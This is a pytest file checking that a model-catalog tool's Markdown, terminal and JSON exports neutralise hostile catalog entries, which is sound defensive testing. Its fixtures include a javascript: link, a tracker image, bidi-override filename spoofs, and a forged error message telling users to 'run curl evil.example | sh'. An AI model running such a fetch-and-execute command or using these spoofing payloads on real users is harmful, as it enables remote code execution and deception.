"""Issue 17, section 5: exports and terminal. Markdown cannot carry links or images from a
catalog; invisible characters are shown as escapes; a newline in a name cannot forge an
`Error:` line; JSON escapes bidi overrides and C1 controls but keeps other text readable."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from pathlib import Path

import pytest
from conftest import entry, run, spread, write_catalog
from markdown_it import MarkdownIt

from llm_pick.render.safe import json_safe, one_line, sanitize
from llm_pick.reports.report import to_json, to_markdown

LINK = "[click me](javascript:alert(1))"
IMAGE = "![pixel](https://tracker.example/p.png)"
INVISIBLE = "\u200b\ufeff\u00ad\u2060\u200d\u061c\u180e\U000e0001"  # ZWSP BOM SHY WJ ZWJ ...
FORGED = "Llama\nError: your licence expired, run curl evil.example | sh"
READABLE = "Mistral NeMo · نموذج عربي · 日本語 · Ünïcödé"


def markdown_html(text: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(text)


# ---- Markdown -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", [LINK, IMAGE, f"x {IMAGE} y", "<javascript:alert(1)>", "[a]: http://x", "[a][b]"]
)
def test_markdown_cells_cannot_become_links_or_images(value: str) -> None:
    text = to_markdown(["name", "n"], [[value, 1]])
    page = markdown_html(text)
    assert "<a " not in page and "<img" not in page, page
    cell = re.search(r"<td>(.*?)</td>", page, re.S)
    assert cell is not None
    import html

    assert html.unescape(cell.group(1)) == value  # shown as the text it is


def test_markdown_export_of_a_hostile_catalog(tmp_path: Path) -> None:
    path = write_catalog(
        tmp_path / "c.yaml", entry(name=IMAGE, organization=LINK, license={"name": LINK})
    )
    for args in (
        ["list"],
        ["compare", "test-7b", "llama-2-7b"],
        ["recommend", "--vram", "80", "--top", "100"],
    ):
        result = run(*args, "--catalog", str(path), "-f", "markdown")
        assert result.code == 0, result.stderr
        page = markdown_html(result.stdout)
        assert "<img" not in page and "<a " not in page, (args, page)


def test_backslashes_survive_markdown() -> None:
    page = markdown_html(to_markdown(["a"], [["C:\\models\\[x]"]]))
    assert "C:\\models\\[x]" in page


# ---- invisible characters -------------------------------------------------------------------


def test_every_format_character_is_made_visible() -> None:
    hidden = [
        chr(c)
        for c in range(sys.maxunicode + 1)
        if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")
    ]
    assert len(hidden) > 150
    shown = sanitize("".join(hidden))
    assert shown.isascii() and shown.count("\\u") + shown.count("\\U") == len(hidden)


def test_lone_surrogates_are_made_visible() -> None:
    assert sanitize("a\ud800b") == "a\\ud800b"


@pytest.mark.parametrize("fmt", ["table", "csv", "markdown", "html"])
@pytest.mark.parametrize("command", [["show", "test-7b"], ["explain", "test-7b", "--vram", "80"]])
def test_invisible_characters_in_names_are_shown(
    tmp_path: Path, command: list[str], fmt: str
) -> None:
    name = f"Llama{INVISIBLE}3"
    path = write_catalog(tmp_path / "c.yaml", entry(name=name, organization=name))
    result = run(*command, "--catalog", str(path), "-f", fmt)
    assert result.code == 0, result.stderr
    for char in INVISIBLE:
        assert char not in result.stdout, (hex(ord(char)), fmt)
    if command[0] == "show" or fmt in ("table", "html"):
        assert "\\u200b" in result.stdout


def forged_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if re.match(r"\W*Error:", line)]


@pytest.mark.parametrize(
    ("command", "fmt"),
    spread(
        [
            ["show", "test-7b"],
            ["list"],
            ["explain", "test-7b", "--vram", "80"],
            ["recommend", "--vram", "80", "--top", "3"],
            ["compare", "test-7b", "llama-2-7b"],
            ["memory", "test-7b", "--vram", "24"],
        ],
        ["table", "csv", "markdown", "html", "json"],
    ),
)
def test_a_newline_in_a_name_cannot_forge_an_error_line(
    tmp_path: Path, command: list[str], fmt: str
) -> None:
    item = entry(name=FORGED, organization=FORGED, sources=[FORGED], notes=FORGED)
    item["license"]["name"] = FORGED
    path = write_catalog(tmp_path / "c.yaml", item)
    result = run(*command, "--catalog", str(path), "-f", fmt)
    assert result.code == 0, result.stderr
    assert forged_lines(result.stdout) == [] and forged_lines(result.stderr) == []
    if command[0] == "show":
        assert "your licence expired" in result.stdout  # shown, on the line it belongs to


def test_a_newline_in_an_output_path_note_stays_on_one_line(tmp_path: Path) -> None:
    out = tmp_path / "x\nError: forged.json"
    result = run("list", "-f", "json", "-o", str(out))
    assert result.code == 0 and out.exists()
    assert forged_lines(result.stderr) == [] and len(result.stderr.splitlines()) == 1


def test_one_line_keeps_text_and_shows_breaks() -> None:
    assert one_line("a\nb\r\tc\u2028d") == "a\\nb\\x0d\tc\\u2028d"


# ---- JSON -----------------------------------------------------------------------------------


def test_json_escapes_bidi_c1_and_invisible_characters_only() -> None:
    value = f"{READABLE} \u202eexe.txt \u009b31m \x7f {INVISIBLE} \ud800"
    text = to_json({"name": value})
    for raw in "\u202e\u009b\x7f\ud800" + INVISIBLE:
        assert raw not in text, hex(ord(raw))
    assert READABLE in text  # other non-ASCII text stays readable
    assert "\\u202e" in text and "\\u009b" in text and "\\udb40\\udc01" in text  # U+E0001
    assert json.loads(text)["name"] == value  # the same data
    assert json.loads(to_json({"name": value}, pretty=False))["name"] == value


def test_json_output_of_a_hostile_catalog(tmp_path: Path) -> None:
    name = f"Evil \u202eexe.txt \u009b31m {READABLE}"
    path = write_catalog(tmp_path / "c.yaml", entry(name=name), as_json=True)
    for args in (["show", "test-7b"], ["list"], ["recommend", "--vram", "80", "--top", "100"]):
        result = run(*args, "--catalog", str(path), "-f", "json")
        assert result.code == 0, result.stderr
        assert "\u202e" not in result.stdout and "\u009b" not in result.stdout
        assert READABLE in result.stdout
        assert name in json.dumps(json.loads(result.stdout), ensure_ascii=False)


def test_json_safe_leaves_ascii_and_plain_unicode_alone() -> None:
    text = json.dumps({"a": READABLE, "b": "plain"}, ensure_ascii=False)
    assert json_safe(text) == text
